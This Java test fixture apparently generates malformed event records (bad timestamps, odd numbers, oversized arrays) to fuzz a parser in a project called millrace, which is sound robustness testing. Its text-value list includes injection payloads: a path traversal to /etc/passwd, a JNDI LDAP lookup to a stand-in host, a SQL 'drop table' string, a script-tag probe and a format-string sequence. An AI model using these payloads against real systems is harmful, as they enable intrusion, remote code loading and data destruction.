package io.millrace.testing.hostile;

import static io.millrace.testing.hostile.HostileDocuments.alarm;
import static io.millrace.testing.hostile.HostileDocuments.call;
import static io.millrace.testing.hostile.HostileDocuments.cost;
import static io.millrace.testing.hostile.HostileDocuments.envelope;
import static io.millrace.testing.hostile.HostileDocuments.fields;
import static io.millrace.testing.hostile.HostileDocuments.finding;
import static io.millrace.testing.hostile.HostileDocuments.issue;
import static io.millrace.testing.hostile.HostileDocuments.named;
import static io.millrace.testing.hostile.HostileDocuments.outcome;
import static io.millrace.testing.hostile.HostileDocuments.point;
import static io.millrace.testing.hostile.HostileDocuments.redriven;
import static io.millrace.testing.hostile.HostileDocuments.statistics;
import static io.millrace.testing.hostile.HostileDocuments.texts;

import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Well-formed documents of known sources with values that make no sense in known fields. */
final class HostileFields {
    private static final List<String> TIMES = List.of(
            "0",
            "-1",
            "1785924000",
            "1785924000000",
            "4102444800000",
            "9223372036854775807",
            "-9223372036854775808",
            "1e18",
            "1e308",
            "-0.0",
            "\"\"",
            "\"NaN\"",
            "\"1970-01-01T00:00:00Z\"",
            "\"2099-12-31T23:59:59.999999999+18:00\"",
            "\"9999-12-31T23:59:59Z\"",
            "\"+1000000000-12-31T23:59:59.999999999Z\"",
            "\"-1000000000-01-01T00:00:00Z\"",
            "\"2026-02-30T00:00:00Z\"",
            "\"2026-08-05T25:61:61Z\"",
            "\"yesterday\"",
            "\"1785924000\"");

    private static final List<String> TEXTS = List.of(
            "\\ud800",
            "\\udc00\\ud800",
            "\\u0000",
            "\\ud83d\\ude00",
            "\\u202e\\u2066right to left",
            "e\\u0301".repeat(300),
            "../../etc/passwd",
            "${jndi:ldap://example.invalid/a}",
            "'; drop table decisions; --",
            "<script>alert(1)</script>",
            "%s%n%x",
            "#redriven:",
            "event:",
            "*",
            "a|b|c=d,e",
            " ",
            "\\u00a0");

    private static final List<String> NUMBERS = List.of(
            "null",
            "true",
            "\"1\"",
            "\"NaN\"",
            "\"Infinity\"",
            "NaN",
            "-Infinity",
            "-0",
            "-0.0",
            "1e308",
            "-1e308",
            "1e999",
            "4.9e-324",
            "12345678901234567890123456789",
            "[]",
            "{}",
            "[1]",
            "\"0x10\"",
            "\"1e999\"",
            "1e-400");

    private HostileFields() {}

    static void addTo(Map<String, byte[]> records) {
        for (String time : TIMES) {
            put(records, "envelope at " + time, envelope("aws.example", "Something", time, "[]", "{}"));
            put(records, "alarm at " + time, alarm(time, "\"ALARM\"", "{}"));
            put(records, "issue at " + time, issue(time));
            put(records, "point at " + time, point(time, "1", "1", "{}"));
        }
        for (String text : TEXTS) {
            String quoted = '"' + text + '"';
            put(records, "all texts " + text, texts(quoted));
            put(
                    records,
                    "alarm named " + text,
                    alarm("\"2026-08-05T10:00:00Z\"", quoted, "{" + quoted + ":" + quoted + "}"));
            put(
                    records,
                    "point named " + text,
                    named(point("1785924000000", "1", "1", "{" + quoted + ":" + quoted + "}"), text));
            put(records, "outcome about " + text, outcome(quoted));
            put(records, "call by " + text, call(quoted));
        }
        for (String number : NUMBERS) {
            put(records, "point with sum " + number, point("1785924000000", "1", number, "{}"));
            put(records, "point with count " + number, point("1785924000000", number, "1", "{}"));
            put(records, "severity " + number, finding("\"id\"", number));
            put(records, "cost of " + number, envelope("aws.ce", "Anomaly Detected", "null", "[]", cost(number)));
            put(
                    records,
                    "revision " + number,
                    redriven(
                            "events",
                            "{\"source\":\"a\",\"detailType\":\"b\",\"revision\":" + number + ",\"severity\":" + number
                                    + ",\"eventTime\":" + number + ",\"values\":{\"v\":" + number + "}}"));
            put(
                    records,
                    "record again at " + number,
                    envelope(
                            "millrace",
                            "Record Redriven",
                            "null",
                            "[]",
                            "{\"recordId\":\"r\",\"shard\":\"s\",\"position\":\"p\",\"line\":" + number
                                    + ",\"arrivedAt\":" + number + ",\"payload\":\"{}\",\"base64\":" + number + "}"));
        }
        many(records);
    }

    private static void many(Map<String, byte[]> records) {
        put(records, "point with 31 dimensions", point("1785924000000", "1", "1", fields(31)));
        put(records, "point with 2000 dimensions", point("1785924000000", "1", "1", fields(2000)));
        put(records, "point with 2000 statistics", point("1785924000000", "1", "1,\"p\":1" + statistics(2000), "{}"));
        put(records, "alarm with 2000 dimensions", alarm("null", "\"ALARM\"", fields(2000)));
        put(records, "detail with 2000 fields", envelope("com.example", "Deployed", "null", "[]", fields(2000)));
        put(
                records,
                "empty lists",
                envelope(
                        "aws.securityhub",
                        "Security Hub Findings - Imported",
                        "null",
                        "[]",
                        "{\"findings\":[],\"resources\":[],\"affectedEntities\":[],\"eventDescription\":[]}"));
        put(
                records,
                "1001 findings",
                envelope(
                        "aws.securityhub",
                        "Security Hub Findings - Imported",
                        "null",
                        "[]",
                        "{\"findings\":[" + "{\"Id\":\"f\"},".repeat(1000) + "{}]}"));
        put(
                records,
                "500 nameless findings",
                envelope(
                        "aws.securityhub",
                        "Security Hub Findings - Imported",
                        "null",
                        "[]",
                        "{\"findings\":[" + "{},".repeat(499) + "null]}"));
        put(
                records,
                "3000 resources",
                envelope(
                        "aws.example",
                        "Something",
                        "null",
                        IntStream.range(0, 3000)
                                .mapToObj(i -> "\"r" + i + "\"")
                                .collect(Collectors.joining(",", "[", "]")),
                        "{}"));
        put(
                records,
                "page 0 of -1",
                issue("null").replace("\"page\":\"1\",\"totalPages\":\"1\"", "\"page\":\"0\",\"totalPages\":\"-1\""));
        put(
                records,
                "page 9e9 of 2",
                issue("null").replace("\"page\":\"1\",\"totalPages\":\"1\"", "\"page\":9e9,\"totalPages\":2"));
        put(
                records,
                "page 1 of 1000000000",
                issue("null")
                        .replace(
                                "\"page\":\"1\",\"totalPages\":\"1\"", "\"page\":\"1\",\"totalPages\":\"1000000000\""));
        put(records, "tick of another shape", envelope("millrace", "millrace.tick", "{}", "{}", "[]"));
    }

    private static void put(Map<String, byte[]> records, String name, String json) {
        HostileShapes.put(records, name, json);
    }
}
